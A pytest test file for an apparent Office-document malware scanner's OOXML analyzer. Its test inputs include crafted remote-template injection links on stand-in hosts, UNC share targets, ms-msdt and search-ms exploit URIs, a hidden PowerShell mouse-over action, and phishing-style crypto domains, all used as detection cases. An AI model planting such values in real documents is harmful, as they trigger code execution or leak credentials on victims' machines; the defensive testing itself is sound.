"""OOXML relationships and embedded binaries: crafted packages, oletools PoCs and real samples."""

from __future__ import annotations

from xml.sax.saxutils import quoteattr

import pytest

from coinguard.analyzers.ooxml import OoxmlRelations
from coinguard.findings import Finding, Item
from coinguard.limits import Budget, Limits
from coinguard.sniff import sniff

from helpers import DATA, codes, make_context, read_corpus_sample, run_handler, zip_bytes

ANALYZER = OoxmlRelations()
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
DOCUMENT = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'


def rels(*relations: tuple[str, str, str]) -> bytes:
    """A .rels part; each relation is (type name, target, target mode)."""
    body = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target={quoteattr(target)}'
        + (f' TargetMode="{mode}"' if mode else "") + "/>"
        for i, (kind, target, mode) in enumerate(relations, 1)
    )
    xml = f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}'
    return (xml + "</Relationships>").encode()


def docx(extra: dict[str, bytes] | None = None, settings_rels: bytes | None = None,
         document_rels: bytes | None = None) -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": DOCUMENT,
               "_rels/.rels": rels(("officeDocument", "word/document.xml", ""))}
    if settings_rels is not None:
        members["word/_rels/settings.xml.rels"] = settings_rels
    if document_rels is not None:
        members["word/_rels/document.xml.rels"] = document_rels
    members.update(extra or {})
    return zip_bytes(members)


def run(data: bytes, name: str = "doc.docx") -> tuple[list[Finding], list[Item]]:
    return run_handler(ANALYZER, data, name)


@pytest.mark.parametrize(
    ("relation", "expected"),
    [
        (("attachedTemplate", "http://droobox.example/luncher.dotm", "External"), {"ooxml.remote_template"}),
        (("attachedTemplate", "file:///C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
          "External"), set()),
        (("attachedTemplate", "\\\\198.51.100.4\\share\\t.dotm", "External"), {"ooxml.unc_target"}),
        (("attachedTemplate", "file://evil.example/share/t.dotm", "External"), {"ooxml.unc_target"}),
        (("hyperlink", "file:///\\\\203.0.113.5\\share\\OPEN.vbs", "External"), {"ooxml.unc_target"}),
        (("hyperlink", "file:////203.0.113.5/share/a.lnk", "External"), {"ooxml.unc_target"}),
        (("hyperlink", "file:///C:/Users/a/report.pdf", "External"), set()),
        (("hyperlink", "https://shop.example.com", "External"), set()),
        (("oleObject", "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html", "External"),
         {"ooxml.exploit_uri"}),
        (("oleObject", "http://x.example/payload.rtf", "External"), {"ooxml.external_ole"}),
        (("hyperlink", "ms-msdt:/id PCWDiagnostic /skip force", "External"), {"ooxml.exploit_uri"}),
        (("hyperlink", "search-ms:query=invoice&crumb=location:\\\\x.example@SSL\\d", "External"),
         {"ooxml.exploit_uri"}),
        (("hyperlink", "https://www.example.com/about", "External"), set()),
        (("hyperlink", "https://x.example/Invoice.exe", "External"), {"ooxml.external_link"}),
        # frame injection (webSettings.xml.rels): Word loads the remote frame when the document opens
        (("frame", "http://x.example/frame.html", "External"), {"ooxml.remote_template"}),
        (("subDocument", "https://x.example/sub.docx", "External"), {"ooxml.remote_template"}),
        (("frame", "C:\\Users\\me\\frame.html", "External"), set()),
        (("oleObject", "embeddings/oleObject1.bin", ""), set()),  # internal part
    ],
)
def test_relationship_targets(relation: tuple[str, str, str], expected: set[str]) -> None:
    findings, _ = run(docx(settings_rels=rels(relation)))
    assert codes(findings) == expected


def test_remote_template_detail_names_part_and_url() -> None:
    findings, _ = run(docx(settings_rels=rels(("attachedTemplate", "http://droobox.example/l.doc", "External"))))
    assert findings[0].detail == "attachedTemplate->http://droobox.example/l.doc (in word/_rels/settings.xml.rels)"


def test_embedded_ole_and_activex_become_children() -> None:
    ole_bin = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    data = docx({"word/embeddings/oleObject1.bin": ole_bin, "word/activeX/activeX1.bin": ole_bin,
                 "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_bytes({"a.txt": b"x"}),
                 "word/vbaProject.bin": ole_bin})
    findings, children = run(data)
    assert codes(findings) == {"ooxml.embedded_ole", "ooxml.activex"}
    assert sorted(c.name for c in children) == ["word/activeX/activeX1.bin",
                                                "word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                                                "word/embeddings/oleObject1.bin"]
    assert all(c.role == "embedded" and c.source == "ooxml" for c in children)


def test_flat_opc_external_template() -> None:
    flat = (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
            b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
            b'<pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData>'
            + rels(("attachedTemplate", "https://x.example/t.dotm", "External")).split(b"?>", 1)[1]
            + b"</pkg:xmlData></pkg:part></pkg:package>")
    findings, _ = run(flat, "doc.xml")
    assert codes(findings) == {"ooxml.remote_template"}


def wordml(template: str) -> bytes:
    """A Word 2003 XML (WordprocessingML) document naming its attached template in ``w:attachedTemplate``."""
    return (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
            b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="no">'
            b'<w:docPr><w:attachedTemplate w:val=' + quoteattr(template).encode() + b'/></w:docPr>'
            b"<w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:wordDocument>")


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        ("https://x.example/invoice.dotm", {"ooxml.remote_template"}),  # template injection from Word 2003 XML
        (r"\\198.51.100.7\share\t.dot", {"ooxml.unc_target"}),
        ("", set()),
        (r"C:\Documents and Settings\a\Application Data\Microsoft\Templates\Normal.dot", set()),
        ("Normal.dot", set()),
    ],
)
def test_word_2003_xml_attached_template(template: str, expected: set[str]) -> None:
    data = wordml(template)
    assert sniff(data) == "xml.office"
    findings, _ = run(data, "rechnung.doc")
    assert codes(findings) == expected


def pptx(action: str, mouse_over: bool = False, vba: bool = True, slide_rels: bytes | None = None) -> bytes:
    """A presentation whose one shape carries ``action`` on a click (or a mouse-over)."""
    link = "hlinkMouseOver" if mouse_over else "hlinkClick"
    slide = ('<?xml version="1.0"?><p:sld xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
             'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="' + REL + '">'
             '<p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Button">'
             f'<a:{link} r:id="{"rId2" if slide_rels else ""}" action={quoteattr(action)}/></p:cNvPr></p:nvSpPr>'
             "</p:sp></p:spTree></p:cSld></p:sld>").encode()
    members = {"[Content_Types].xml": CONTENT_TYPES, "ppt/presentation.xml": b"<p:presentation/>",
               "_rels/.rels": rels(("officeDocument", "ppt/presentation.xml", "")), "ppt/slides/slide1.xml": slide}
    if vba:
        members["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    if slide_rels is not None:
        members["ppt/slides/_rels/slide1.xml.rels"] = slide_rels
    return zip_bytes(members)


@pytest.mark.parametrize("mouse_over", [False, True])
def test_pptx_shape_action_running_a_macro_is_conclusive(mouse_over: bool) -> None:
    findings, _ = run(pptx("ppaction://macro?name=Module1.Go", mouse_over=mouse_over), "deck.pptm")
    assert codes(findings) == {"ooxml.ppaction_macro"}
    found = findings[0]
    assert ("mouse-over" if mouse_over else "click") in found.detail and "Module1.Go" in found.detail
    assert found.strength == ""  # the catalogue's: conclusive
    # with no VBA project in the package the action has nothing to run: strong, said so in the detail
    findings, _ = run(pptx("ppaction://macro?name=Module1.Go", mouse_over=mouse_over, vba=False), "deck.pptx")
    assert [(f.code, f.strength) for f in findings] == [("ooxml.ppaction_macro", "strong")]
    assert "no VBA project" in findings[0].detail


def test_pptx_mouse_over_running_a_program() -> None:
    # the 2017 mouse-over technique: hovering over a link in the slide show runs the relationship's target
    target = "powershell -NoP -W Hidden -c calc"
    data = pptx("ppaction://program", mouse_over=True, vba=False,
                slide_rels=rels(("hyperlink", target, "External")))
    findings, _ = run(data, "order.ppsx")
    assert "ooxml.ppaction_program" in codes(findings)
    assert target in next(f.detail for f in findings if f.code == "ooxml.ppaction_program")


@pytest.mark.parametrize("action", ["ppaction://hlinkshowjump?jump=nextslide", "ppaction://hlinksldjump"])
def test_pptx_navigation_actions_are_quiet(action: str) -> None:
    assert codes(run(pptx(action), "deck.pptm")[0]) == set()


def test_broken_package_is_a_parse_error() -> None:
    data = docx(settings_rels=b"<Relationships><unclosed")
    findings, _ = run(data)
    assert codes(findings) == {"ooxml.parse_error"}


def test_budget_refuses_oversized_rels_part() -> None:
    from coinguard.errors import BudgetExceeded

    data = docx(settings_rels=rels(("attachedTemplate", "http://x.example/t", "External")) + b" " * 5000)
    item = Item(path="d", name="d", data=data, type=sniff(data))
    ctx = make_context()
    ctx.budget = Budget(Limits(max_file_bytes=2000))
    with pytest.raises(BudgetExceeded):
        list(ANALYZER.handle(item, ctx))


def test_oletools_external_oleobject_poc() -> None:
    findings, _ = run((DATA / "oletools_sample_with_external_link_to_doc.docx").read_bytes())
    assert codes(findings) == {"ooxml.external_ole"}
    assert "raw.githubusercontent.com" in findings[0].detail


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("relpath", "expected"),
    [
        ("maldocs/inquest/6be18e3afeec482c79c9dea119d11d9c1598f59a260156ee54f12c4d914aed8f.docx.zip",
         {"ooxml.remote_template"}),
        ("maldocs/oletools/sample_with_external_link_to_doc.pptx.zip", {"ooxml.external_ole"}),
        ("benign/attachments/oletools/embedded-simple-2007.docx", {"ooxml.embedded_ole"}),
        ("benign/attachments/oletools/harmless-clean.docx", set()),
        ("benign/attachments/strelka/test.docx", set()),
        ("benign/attachments/MacroMilter/clean_wordfile.docx", set()),
        ("benign/attachments/oletools/harmless-clean.xml", set()),
    ],
)
def test_corpus_documents(corpus_dir: object, relpath: str, expected: set[str]) -> None:
    findings, _ = run(read_corpus_sample(relpath))
    assert codes(findings) == expected


@pytest.mark.corpus
def test_remote_template_sample_names_the_url(corpus_dir: object) -> None:
    findings, _ = run(read_corpus_sample(
        "maldocs/inquest/6be18e3afeec482c79c9dea119d11d9c1598f59a260156ee54f12c4d914aed8f.docx.zip"))
    assert "http://droobox.online/luncher.doc" in findings[0].detail


def test_bare_relationships_file() -> None:
    data = rels(("hyperlink", "file:///\\\\127.0.0.1\\share\\EXCEL_OPEN_DOCUMENT.vbs", "External"),
                ("hyperlink", "https://www.example.com", "External"), ("image", "../media/image1.png", ""))
    findings, _ = run(data + b"<!-- <script>x</script> -->", "x.xml")
    assert codes(findings) == {"ooxml.unc_target"}


@pytest.mark.corpus
def test_strelka_external_relationships_xml(corpus_dir: object) -> None:
    findings, _ = run(read_corpus_sample("maldocs/strelka/test_external.xml.zip"), "test_external.xml")
    assert codes(findings) == {"ooxml.unc_target"}
    assert "EXCEL_OPEN_DOCUMENT.vbs" in findings[0].detail


def test_corrupt_deflate_member_is_a_parse_error() -> None:
    settings = rels(*[("attachedTemplate", f"http://x.example/{i}.dotm", "External") for i in range(200)])
    data = bytearray(docx(settings_rels=settings))
    name = b"word/_rels/settings.xml.rels"
    body = data.index(name) + len(name)  # first occurrence: the local header, data follows (no extra field)
    data[body + 20 : body + 60] = b"\xff" * 40
    findings, children = run(bytes(data))
    assert codes(findings) == {"ooxml.parse_error"}
    assert children == []


def test_hyperlinks_and_hyperlink_fields_are_handed_to_the_link_analyzers() -> None:
    """Hyperlink relationships and HYPERLINK fields (Word instrText/fldSimple, Excel formulas) become one
    URL-carrying child (urls_common.message_urls reads its meta)."""
    from coinguard.analyzers.urls_common import URLS_META, WHERE_META

    body = (b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b'<w:r><w:instrText xml:space="preserve"> HYPERLINK "https://ledger-sync.app/x?a=1&amp;b=2" \\o "tip"'
            b'</w:instrText></w:r><w:fldSimple w:instr=" HYPERLINK &quot;https://kucoin-verify.io/&quot; "/>'
            b'<w:instrText> HYPERLINK \\l "_Toc1" </w:instrText></w:document>')
    data = docx({"word/document.xml": body}, document_rels=rels(("hyperlink", "https://okx-support.net/", "External"),
                                                                 ("hyperlink", "mailto:a@example.org", "External")))
    findings, children = run(data)
    assert findings == []
    (links,) = [c for c in children if URLS_META in c.meta]
    assert links.meta[URLS_META] == ["https://okx-support.net/", "https://ledger-sync.app/x?a=1&b=2",
                                     "https://kucoin-verify.io/"]
    assert links.meta[WHERE_META] == "Office hyperlink" and links.role == "text"
    sheet = b'<worksheet><sheetData><row><c><f>HYPERLINK("https://gemini-claim.net/","Claim")</f></c></row></sheetData>'
    xlsx = zip_bytes({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>",
                      "xl/worksheets/sheet1.xml": sheet + b"</worksheet>"})
    item = Item(path="t.xlsx", name="t.xlsx", data=xlsx, type="ooxml.excel")
    out = [o for o in ANALYZER.handle(item, make_context()) if isinstance(o, Item)]
    assert out[0].meta[URLS_META] == ["https://gemini-claim.net/"]
    _, none = run(docx())
    assert all(URLS_META not in c.meta for c in none)


def test_hyperlink_fields_prefilter_finds_what_the_pattern_finds() -> None:
    """The word check before the field pattern skips only parts the pattern finds nothing in (any case)."""
    from coinguard.analyzers.ooxml import _HYPERLINK_FIELD, _unescape, hyperlink_fields

    samples = [
        b"<w:instrText> HYPERLINK \"http://a.example/x\" </w:instrText>",
        b"<w:fldSimple w:instr=\"HyPeRlInK &quot;https://b.example/y?a=1&amp;b=2&quot;\"/>",
        b"<f>hyperlink(\"https://c.example/z\",\"click\")</f>",
        b"<f>HYPERLINK (  &quot;//d.example/share&quot;)</f>" * 3,
        b"<t>no link words here</t>" * 500,
        b"<t>xHYPERLINK \"http://e.example/\"</t>",  # not a word boundary: no field
        b"<t>HYPERLINKS are words too</t>",
        b"",
    ]
    for xml in samples:
        expected = [_unescape(m.group(1).decode("utf-8", "replace")) for m in _HYPERLINK_FIELD.finditer(xml)]
        assert hyperlink_fields(xml) == expected
    assert hyperlink_fields(samples[1]) == ["https://b.example/y?a=1&b=2"]
    assert hyperlink_fields(samples[4]) == []
